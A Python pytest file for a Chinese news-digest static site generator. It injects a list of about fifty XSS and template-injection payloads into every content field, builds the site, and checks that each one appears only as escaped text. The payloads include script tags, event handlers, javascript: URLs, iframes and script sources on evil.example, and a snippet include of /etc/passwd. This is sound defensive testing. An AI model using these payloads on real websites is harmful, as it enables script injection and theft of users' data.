"""Hostile text is data, never markup: one real build of a content folder full of payloads.

Every payload below (script tags, event handlers, ``javascript:`` links,
Markdown link and image syntax, HTML comments, Jinja ``{{ }}``/``{% %}``,
``--8<--`` snippets, ``[[…]]``, front-matter fences, attribute lists…) is put
into the source pages (headline, kicker, deck, section heading, body, byline,
caption, photo credit), the sidecar metadata (publication, edition), the
glossary (term, alias, gloss, definition, notes, pinyin) and the errata
(reason, correction); then ``baozhai build`` runs once (both editions and the
offline bundles) and every built page is parsed with :mod:`html.parser`:

* no element, attribute or URL outside what Material and Baozhai produce;
  no ``on*`` attribute, no ``javascript:``/``data:`` URL, no payload marker in a
  tag or attribute name, in a URL, an id or a class, or inside a script;
* each payload's text is visible text on the page it belongs to (article, term,
  issue page), in ``<title>``, meta description and Open Graph tags, tooltips
  (``title`` attributes) and the search index, in both editions.

Metadata fields that are validated (date, page) refuse payloads; so does a
glossary ``traditional`` form (it is a conversion rule applied to the rendered
page, so it may only hold characters). Test fixtures, not news.
"""
from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import unicodedata
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from conftest import built_once, ROOT, write_content

from generator.annotate.dictionary import LICENCE_URL, SOURCE_URL
from generator.cli import main
from generator.engine.pagefind import read_index
from generator.editions.convert import Converter
from generator.ingest.classify import Kind, kind_of
from generator.ingest.names import plausible
from generator.pipeline import process
from generator.site.glossary_pages import tooltip
from generator.site.render import lede
from generator.site.source_view import source_paths

SITE_NAME = "报摘 Baozhai"

# id, payload: each payload holds its marker XSSnn, so it can be followed anywhere.
PAYLOADS = [
    '<script>alert("XSS01")</script>',
    "<img src=x onerror=alert('XSS02')>",
    "[XSS03](javascript:alert(1))",
    "![XSS04](javascript:alert(1))",
    "<!-- XSS05 -->",
    "{{ XSS06 }}",
    "{% if XSS07 %}x{% endif %}",
    '--8<-- "XSS08.md"',
    "[[XSS09]]",
    "--- XSS10 ---",
    '{: onclick="alert(XSS11)" }',
    "<a href=\"javascript:alert('XSS12')\">x</a>",
    '<iframe src="https://evil.example/XSS13"></iframe>',
    "<svg onload=alert('XSS14')>",
    '"><script>XSS15</script>',
    "' onmouseover='alert(XSS16)' x='",
    "&lt;script&gt;XSS17&amp;",
    "&#60;b&#62;XSS18&#60;/b&#62;",
    "*XSS19* __bold__ ~~del~~",
    "`XSS20` ``code``",
    "<https://evil.example/XSS21>",
    "https://evil.example/XSS22",
    "[^XSS23]",
    "[XSS24]: javascript:alert(1)",
    "| XSS25 | a |",
    '!!! danger "XSS26"',
    "<style>body{display:none}</style>XSS27",
    '<div markdown="1">*XSS28*</div>',
    "\\<XSS29\\> \\*",
    "${XSS30} %{XSS30} #{XSS30}",
    "{#- XSS31 -#}",
    '<object data="javascript:alert(1)">XSS32</object>',
    '<base href="https://evil.example/XSS33">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/XSS34">',
    "data:text/html,<script>XSS35</script>",
    "<<XSS36>>",
    "<!--XSS37",
    "<textarea>XSS38",
    "]]>XSS39<![CDATA[",
    '<math><mi xlink:href="javascript:alert(1)">XSS40</mi></math>',
    "{{ config.extra }}XSS41{{ page.meta }}",
    '{% include "base.html" %}XSS42',
    '--8<-- "/etc/passwd" XSS43',
    "<script src=//evil.example/XSS44.js></script>",
    "javascript:alert('XSS45')",
    "[XSS46]",
    "{ #XSS47 .evil onclick=x }",
    "<details open ontoggle=alert(XSS48)>",
    '<a href="#" title="x" XSS49="y">',
    "<form action=https://evil.example/XSS50><input name=q></form>",
    "*[XSS51]: abbreviation",
    "<p>XSS52</p> <br/> &nbsp; &copy;",
]
IDS = [re.findall(r"XSS\d\d", p)[0] for p in PAYLOADS]
PAYLOAD_NAME = "<img src=x onerror=alert('XSS53')> {{ x }}.txt"  # a source file name is untrusted too
# Source slots besides the body paragraph that every payload is in.
SLOTS = ("headline", "kicker", "deck", "section", "byline", "caption", "credit")


def article_text(i: int, payload: str) -> tuple[str, list[str]]:
    """Source lines of article ``i`` and the slots its payload went into. A byline or
    photo credit is a short line without sentence ends (a longer one is body text, as
    it should be): a payload that cannot be one goes into a caption instead."""
    slot = SLOTS[i % len(SLOTS)]
    if slot == "byline" and kind_of(f"记者 {payload}") is not Kind.BYLINE or \
            slot == "credit" and kind_of(f"图/{payload}") is not Kind.CREDIT:
        slot = "caption"
    used = ["body", slot]
    if slot == "byline" and not plausible(f"记者 {payload}"):  # not a name: a flagged note in the source view
        used = ["body", "note"]
    lines = []
    if slot == "kicker":
        lines.append(f"## 引题{payload}说明")
    lines.append(f"# 测试标题{i:02d}{payload if slot == 'headline' else ''}")
    if slot == "deck":
        lines.append(f"## 副题{payload}说明")
    if slot == "byline":
        lines.append(f"记者 {payload}")
    lines.append(f"测试市今天举办示例活动{payload}共有{i + 1}百人参加。")
    if slot == "section":
        lines += [f"### 小节{payload}说明", "活动持续两天，内容包括讲座和展览。"]
    if slot == "caption":
        lines.append(f"图为{payload}现场")
    if slot == "credit":
        lines += ["图为活动现场", f"图/{payload}"]
    return "\n\n".join(lines) + "\n", used


PAGES = 6  # source pages; each gets a publication and an edition payload in its sidecar


def glossary_entries() -> list[tuple[dict, dict[str, int]]]:
    """Glossary entries with payloads in every text field; (entry, field → payload index)."""
    entries = []
    for j in range(8):
        base = 6 * j
        fields = {"term": base, "aliases": base + 1, "gloss": base + 2, "definition": base + 3,
                  "notes": base + 4, "pinyin": base + 5}
        entry = {"term": PAYLOADS[base], "category": "technology", "gloss": PAYLOADS[base + 2],
                 "definition": f"{PAYLOADS[base + 3]}是测试用的释义。第二句不进提示。",
                 "aliases": [f"别名{PAYLOADS[base + 1]}"], "notes": PAYLOADS[base + 4],
                 "pinyin": f"ceshi {PAYLOADS[base + 5]}"}
        entries.append((entry, fields))
    return entries


def errata_entries(pages: dict[str, list[int]]) -> list[tuple[dict, int, int]]:
    """(erratum, payload index of the correction, of the reason) on several body lines;
    the third article of a page has its payload itself marked as the original text."""
    found = []
    for name, articles in pages.items():
        for n, i in enumerate(articles[:3]):
            correction, reason = (i + 17) % len(PAYLOADS), (i + 29) % len(PAYLOADS)
            original = PAYLOADS[i] + f"共有{i + 1}百人" if n == 2 else f"共有{i + 1}百人"
            found.append(({"source": name, "line": None, "original": original,
                           "correction": f"共有{PAYLOADS[correction]}人", "reason": PAYLOADS[reason]},
                          correction, reason))
    return found


def content_files() -> dict[str, str]:
    """The whole payload content folder: sources, sidecars, glossary, errata."""
    files: dict[str, str] = {}
    pages: dict[str, list[int]] = {}
    for i in range(len(PAYLOADS)):
        pages.setdefault(f"page{i % PAGES}.txt", []).append(i)
    errata = []
    for number, (name, articles) in enumerate(sorted(pages.items())):
        text = "".join(article_text(i, PAYLOADS[i])[0] + "\n" for i in articles)
        files[f"sources/{name}"] = text
        meta = {"publication": PAYLOADS[(7 * number + 3) % len(PAYLOADS)],
                "edition": PAYLOADS[(7 * number + 5) % len(PAYLOADS)],
                "date": f"2026-07-{number + 1:02d}", "page": f"A{number + 1:02d}"}
        files[f"sources/{name[:-4]}.meta.yml"] = yaml.safe_dump(meta, allow_unicode=True)
        lines = text.split("\n")
        for erratum, _, _ in errata_entries({name: articles}):
            erratum["line"] = next(n + 1 for n, line in enumerate(lines) if erratum["original"] in line)
            errata.append(erratum)
    files[f"sources/{PAYLOAD_NAME}"] = f"# 文件名测试\n{PAYLOAD_NAME}的正文。\n"  # undated, no sidecar
    files["glossary.yml"] = yaml.safe_dump([e for e, _ in glossary_entries()], allow_unicode=True)
    files["errata.yml"] = yaml.safe_dump(errata, allow_unicode=True)
    return files


# -- the build ---------------------------------------------------------------------------

def build_project(root: Path, hash_seed: str = "1", extra_env: dict | None = None) -> subprocess.CompletedProcess:
    """``baozhai build`` in a fresh process on the project at ``root``."""
    env = {**os.environ, "PYTHONHASHSEED": hash_seed, **(extra_env or {})}
    env.pop("SOURCE_DATE_EPOCH", None)
    return subprocess.run([sys.executable, "-m", "generator", "--root", str(root), "build"],
                          capture_output=True, text=True, env=env, timeout=600)


def make_project(root: Path) -> Path:
    """A project folder (mkdocs.yml, overrides/, the payload content) at ``root``."""
    write_content(root, content_files(), mkdocs=True)
    config = root / "mkdocs.yml"  # a real (test) address: the sitemaps and 404 page are built
    config.write_text(re.sub(r"(?m)^site_url:.*$", "site_url: https://baozhai.test/", config.read_text(encoding="utf-8")),
                      encoding="utf-8")
    shutil.copytree(ROOT / "overrides", root / "overrides")
    return root


def _build_payloads(root: Path) -> None:
    make_project(root)
    done = build_project(root)
    assert done.returncode == 0, done.stderr[-3000:]


def payload_project(config: pytest.Config) -> Path:
    """The payload project, built once per test run (shared with test_atomic, whose killed
    builds work on a copy built elsewhere: read it, never change it)."""
    return built_once(config, "payloads", _build_payloads)


@pytest.fixture(scope="module")
def project(request) -> Path:
    return payload_project(request.config)


@pytest.fixture(scope="module")
def digest(project):
    return process(project / "content")


# -- reading built HTML --------------------------------------------------------------------

ALLOWED_TAGS = {
    "html", "head", "body", "title", "meta", "link", "script", "header", "footer", "main", "nav", "article",
    "section", "aside", "div", "span", "p", "a", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol",
    "li", "dl", "dt", "dd", "figure", "figcaption", "mark", "sup", "sub", "em", "strong", "code", "small",
    "table", "thead", "tbody", "tr", "th", "td", "button", "form", "input", "label", "svg", "path",
    "details", "summary",  # an article's word list (article.md.j2)
    "time",  # an article's date (article.md.j2)
}
ALLOWED_ATTRS = {
    "id", "class", "href", "src", "title", "type", "name", "content", "rel", "lang", "dir", "hreflang",
    "charset", "property", "role", "tabindex", "hidden", "checked", "required", "placeholder", "for", "d",
    "viewbox", "xmlns", "autocapitalize", "autocomplete", "autocorrect", "spellcheck", "http-equiv",
    "datetime",  # <time> (article.md.j2)
}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcset"}
TEXT_ATTRS = {"title", "data-pinyin", "aria-label"}  # may show a payload as text (decoded)
TEXT_META = {"description", "og:title", "og:description"}
SITE_URL = "https://baozhai.test/"  # make_project's


class Page(HTMLParser):
    """A built page: its visible text, <title>, meta contents, tooltips and every problem found."""

    def __init__(self, name: str):
        super().__init__(convert_charrefs=True)
        self.name = name
        self.text: list[str] = []
        self.title = ""
        self.meta: dict[str, str] = {}
        self.tooltips: list[str] = []
        self.problems: list[str] = []
        self.inside: list[str] = []
        self.classes: list[list[str]] = []  # classes of each open element
        self.regions: dict[str, list[str]] = {}  # text by enclosing tag ("h1") and class (".bz-deck")
        self.start_page = re.fullmatch(r"baozhai-offline-[\w-]+/index\.html", name) is not None  # a redirect

    def handle_starttag(self, tag, attrs):
        self.check_tag(tag, attrs)
        if tag not in ("meta", "link", "br", "hr", "input", "path"):
            self.inside.append(tag)
            self.classes.append((dict(attrs).get("class") or "").split())

    def handle_startendtag(self, tag, attrs):
        self.check_tag(tag, attrs)

    def handle_endtag(self, tag):
        if tag in self.inside:
            while self.inside and (self.classes.pop() or True) and self.inside.pop() != tag:
                pass

    def handle_data(self, data):
        where = self.inside[-1] if self.inside else ""
        if where in ("script", "style"):
            if "XSS" in data or "evil.example" in data:
                self.problems.append(f"payload inside <{where}>: {data[:80]!r}")
        elif where == "title":
            self.title += data
        else:
            self.text.append(data)
            for tag, classes in zip(self.inside, self.classes):
                for key in [tag] + [f".{c}" for c in classes]:
                    self.regions.setdefault(key, []).append(data)

    def handle_comment(self, data):
        if "XSS" in data:
            self.problems.append(f"payload became an HTML comment: {data[:80]!r}")

    def unknown_decl(self, data):
        self.problems.append(f"declaration {data[:80]!r}")

    def check_tag(self, tag, attrs):
        problem = self.problems.append
        if tag not in ALLOWED_TAGS or "xss" in tag.lower():
            problem(f"element <{tag}>")
        attributes = dict(attrs)
        for key, value in attrs:
            value = value or ""
            if key.startswith("on") or "xss" in key.lower():
                problem(f"<{tag} {key}>")
            elif key not in ALLOWED_ATTRS and not key.startswith(("data-", "aria-")):
                problem(f"<{tag}> attribute {key}")
            if key in URL_ATTRS and not _our_url(value):
                problem(f"<{tag} {key}={value[:80]!r}>")
            if ("XSS" in value or "evil.example" in value) and not (
                    key in TEXT_ATTRS or (key == "content" and _meta_name(attributes) in TEXT_META)):
                problem(f"payload in <{tag} {key}={value[:80]!r}>")
        if tag == "script" and attributes.get("src") is not None and not _our_url(attributes["src"]):
            problem(f"script from {attributes['src']!r}")
        if tag == "meta" and "http-equiv" in attributes and not self.start_page:
            problem("meta http-equiv")
        if tag == "form" and ("action" in attributes or (attributes.get("class") != "md-search__form" and
                                                         attributes.get("data-md-component") != "palette")):
            problem("a form other than Material's search or palette toggle")
        if tag == "meta" and _meta_name(attributes) in TEXT_META:
            self.meta[_meta_name(attributes)] = attributes.get("content") or ""
        if tag == "a" and "title" in attributes:
            self.tooltips.append(attributes["title"])

    @property
    def visible(self) -> str:
        return "".join(self.text)


def _meta_name(attributes: dict) -> str:
    return attributes.get("name") or attributes.get("property") or ""


# the two addresses CC-CEDICT's licence asks the credits page to link (generator constants, not content)
ATTRIBUTION = {SOURCE_URL, LICENCE_URL}


def _our_url(url: str) -> bool:
    """Relative, or on the site's own host (or an attribution link); never javascript:,
    data:, another host."""
    url = url.strip()
    if url in ATTRIBUTION:
        return True
    if "XSS" in url or "evil.example" in url:  # (slugs hold payload words lower-cased: xss11, evil)
        return False
    if re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*:", url) or url.startswith("//"):
        return url.startswith(SITE_URL)
    return True


def parse(name: str, html: str) -> Page:
    page = Page(name)
    page.feed(html)
    page.close()
    return page


def norm(text: str) -> str:
    """Compare text as a reader sees it: full-width punctuation the repair stage made
    from half-width (NFKC), whitespace and search's zero-width spaces ignored."""
    return re.sub(r"[\s\u200b]+", "", unicodedata.normalize("NFKC", text))


@pytest.fixture(scope="module")
def pages(project) -> dict[str, Page]:
    """Every built HTML page of the site (both editions), parsed, by path inside site/."""
    site = project / "site"
    return {p.relative_to(site).as_posix(): parse(p.relative_to(site).as_posix(), p.read_text(encoding="utf-8"))
            for p in sorted(site.rglob("*.html"))}


EDITIONS = ("", "zh-Hant/")


# -- no payload became markup ---------------------------------------------------------------

def test_no_payload_became_an_element_attribute_url_or_script(pages):
    assert len(pages) > 2 * len(PAYLOADS)
    problems = [f"{name}: {p}" for name, page in pages.items() for p in page.problems]
    assert problems == []


def test_the_offline_bundle_is_as_clean(project):
    """The bundle holds the hosted pages plus its start page: checked again, from the zip."""
    problems, count = [], 0
    with zipfile.ZipFile(project / "dist" / "baozhai-offline-zh-Hant.zip") as archive:
        for name in archive.namelist():
            if name.endswith(".html"):
                count += 1
                problems += [f"{name}: {p}" for p in parse(name, archive.read(name).decode()).problems]
    assert count > 2 * len(PAYLOADS) and problems == []


def test_no_template_or_snippet_was_evaluated(project):
    """Jinja and snippet syntax would have been replaced by their result: every one is
    still there, as text, in the generated Markdown and in the built pages."""
    site = "\n".join(p.read_text(encoding="utf-8") for p in (project / "site").rglob("*.html"))
    for marker in ("XSS06", "XSS07", "XSS08", "XSS31", "XSS41", "XSS42", "XSS43"):
        assert marker in site
    assert "root:x:0:0" not in site  # --8<-- "/etc/passwd" was not included


# -- every payload is visible text where it belongs -----------------------------------------

def _article_of(digest, i: int):
    return next(a for a in digest.articles if a.title.startswith(f"测试标题{i:02d}"))


# where each slot of an article is shown: enclosing element or class
REGIONS = {"body": "p", "headline": "h1", "kicker": ".bz-kicker", "deck": ".bz-deck", "section": "h2",
           "byline": ".bz-meta", "caption": "figcaption", "credit": ".bz-credit", "note": ".bz-source"}


@pytest.fixture(scope="module")
def to_edition():
    """Simplified text as each edition shows it."""
    converter = Converter("s2twp")
    return {"": str, "zh-Hant/": converter.convert_text}


@pytest.mark.parametrize("edition", EDITIONS, ids=["zh-Hans", "zh-Hant"])
def test_source_payloads_are_visible_text_on_their_article(pages, digest, edition, to_edition):
    convert, missing = to_edition[edition], []
    for i, payload in enumerate(PAYLOADS):
        article = _article_of(digest, i)
        page = pages[f"{edition}articles/{article.slug}.html"]
        source_view = pages[f"{edition}{source_paths(digest)[article.source][:-3]}.html"]
        for slot in article_text(i, payload)[1]:
            shown = source_view if slot == "note" else page
            if norm(payload) not in norm("".join(shown.regions.get(REGIONS[slot], []))):
                missing.append((IDS[i], slot))
        title = norm(convert(article.title))
        if norm(page.title) != title + norm(f" - {convert(SITE_NAME)}") or norm(page.meta["og:title"]) != title:
            missing.append((IDS[i], "title", page.title))
        description = norm(convert(lede(article, article.slug in digest.links.mid_sentence)))
        if norm(page.meta["description"]) != description or norm(page.meta["og:description"]) != description:
            missing.append((IDS[i], "description", page.meta["description"]))
    assert missing == []


@pytest.mark.parametrize("edition", EDITIONS, ids=["zh-Hans", "zh-Hant"])
def test_metadata_payloads_are_visible_text(pages, digest, edition):
    missing = []
    for result in digest.pages:
        meta = result.page.source.meta
        if meta.date is None:  # the page named by a payload
            continue
        issue = pages[f"{edition}issues/{meta.date}.html"]
        for value in (meta.publication, meta.edition):
            if norm(value) not in norm(issue.visible):
                missing.append((meta.date, value))
        article = pages[f"{edition}articles/{result.page.articles[0].slug}.html"]
        if norm(meta.publication) not in norm(article.visible):
            missing.append((meta.date, "article", meta.publication))
    assert missing == []


@pytest.mark.parametrize("edition", EDITIONS, ids=["zh-Hans", "zh-Hant"])
def test_glossary_payloads_are_visible_text_and_tooltips(pages, digest, edition, to_edition):
    convert, missing, tooltips = to_edition[edition], [], 0
    for entry, fields in glossary_entries():
        term = next(t for t in digest.glossary.terms if t.term == entry["term"])
        page = pages[f"{edition}glossary/{term.slug}.html"]
        for field, index in fields.items():
            if norm(PAYLOADS[index]) not in norm(page.visible):
                missing.append((term.slug, field, IDS[index]))
        if norm(page.title) != norm(f"{convert(term.term)} - {convert(SITE_NAME)}"):
            missing.append((term.slug, "title", page.title))
        for article in digest.articles:
            for tip in pages[f"{edition}articles/{article.slug}.html"].tooltips:
                if tip.startswith(term.pinyin + "｜"):
                    tooltips += 1
                    if norm(tip) != norm(convert(tooltip(term))):
                        missing.append((term.slug, "tooltip", tip))
    assert missing == []
    assert tooltips >= 4  # terms whose payload reached the body text unchanged are annotated


@pytest.mark.parametrize("edition", EDITIONS, ids=["zh-Hans", "zh-Hant"])
def test_a_payload_file_name_is_never_shown_and_its_text_is_text(pages, digest, edition):
    """A reader never sees a source file's name (来源不详 stands for an unknown source);
    the body quoting it shows it as text (its leading tag was read as a scraper's HTML)."""
    result = next(r for r in digest.pages if r.page.source.name == PAYLOAD_NAME)
    article = pages[f"{edition}articles/{result.page.articles[0].slug}.html"]
    assert norm(PAYLOAD_NAME) not in norm(article.visible)
    assert norm("{{ x }}.txt的正文。") in norm(article.visible)
    assert norm(PAYLOAD_NAME) not in norm(pages[f"{edition}issues/undated.html"].visible)


@pytest.mark.parametrize("edition", EDITIONS, ids=["zh-Hans", "zh-Hant"])
def test_errata_payloads_are_visible_text(pages, digest, edition):
    pages_by_name = {}
    for i in range(len(PAYLOADS)):
        pages_by_name.setdefault(f"page{i % PAGES}.txt", []).append(i)
    missing = []
    for _, correction, reason in errata_entries(pages_by_name):
        for index in (correction, reason):
            shown = "".join(pages[f"{edition}articles/{a.slug}.html"].visible for a in digest.articles)
            if norm(PAYLOADS[index]) not in norm(shown):
                missing.append(IDS[index])
    assert missing == []


@pytest.mark.parametrize("edition", EDITIONS, ids=["zh-Hans", "zh-Hant"])
def test_search_index_holds_payloads_as_escaped_text(project, edition):
    index = read_index(project / "site" / edition)
    problems, shown = [], []
    for doc in index["docs"]:
        for key in ("title", "text"):
            page = parse(doc["location"], doc[key])
            problems += [f"{doc['location']} {key}: {p}" for p in page.problems]
            shown.append(page.visible)
    assert problems == []
    everything = norm("".join(shown))
    assert [IDS[i] for i, p in enumerate(PAYLOADS) if norm(p) not in everything] == []


def test_nav_titles_are_fixed_labels(digest):
    """The nav holds only fixed entries, never source text (Material prints nav titles
    unescaped): the payload digest, whose headlines, publications and editions are all
    payloads, gets exactly the fixed entries."""
    from generator.site.pages import navigation

    assert navigation(digest) == [
        {"首页": "index.md"},
        {"浏览": ["browse/index.md", {"按日期": "issues/index.md"}, {"按类别": "topics/index.md"}]},
        {"术语表": "glossary/index.md"},
        {"来源与许可": "credits.md"},
    ]


# -- validated fields refuse payloads --------------------------------------------------------

PAGE_TEXT = "# 示例标题\n测试市今天举办示例活动，共有一百人参加。\n"


@pytest.mark.parametrize("field,payload", [
    ("date", PAYLOADS[0]), ("date", "2026-07-08\n<script>x</script>"), ("date", "../../etc/x"),
    ("page", PAYLOADS[1]), ("page", "A02\n"), ("page", "../A02"),
])
def test_date_and_page_payloads_are_refused(capsys, tmp_path, field, payload):
    sidecar = yaml.safe_dump({field: payload}, allow_unicode=True)
    content = write_content(tmp_path, {"sources/x.txt": PAGE_TEXT, "sources/x.meta.yml": sidecar}, mkdocs=True)
    assert main(["--root", str(tmp_path), "check"]) == 1
    err = capsys.readouterr().err
    label = "must be YYYY-MM-DD" if field == "date" else "must look like A02 or 5"
    assert err.startswith(f"baozhai: error: {content / 'sources' / 'x.meta.yml'}:1: ")
    assert f"{field} {label}, got {payload!r}" in err or f"metadata {field} must be one line of text" in err


@pytest.mark.parametrize("traditional", [PAYLOADS[0], PAYLOADS[2], "示例{{ x }}", "示 例", "示例&amp;"])
def test_traditional_forms_with_markup_are_refused(capsys, tmp_path, traditional):
    """A Traditional form replaces the term inside the rendered page, so it may hold only characters."""
    glossary = yaml.safe_dump([{"term": "示例活动", "category": "event", "gloss": "sample event",
                                "definition": "测试用。", "traditional": traditional}], allow_unicode=True)
    content = write_content(tmp_path, {"sources/x.txt": PAGE_TEXT, "glossary.yml": glossary}, mkdocs=True)
    assert main(["--root", str(tmp_path), "check"]) == 1
    assert capsys.readouterr().err.startswith(
        f"baozhai: error: {content / 'glossary.yml'}:1: entry 示例活动: traditional “")


def test_editor_phrases_with_markup_are_refused(capsys, tmp_path):
    write_content(tmp_path, {"sources/x.txt": PAGE_TEXT, "phrases.txt": "示例\t<img/src=x/onerror=alert(1)>\n"},
                  mkdocs=True)
    assert main(["--root", str(tmp_path), "check"]) == 1
    assert "phrases.txt:1: a phrase is Chinese text, without ASCII punctuation" in capsys.readouterr().err
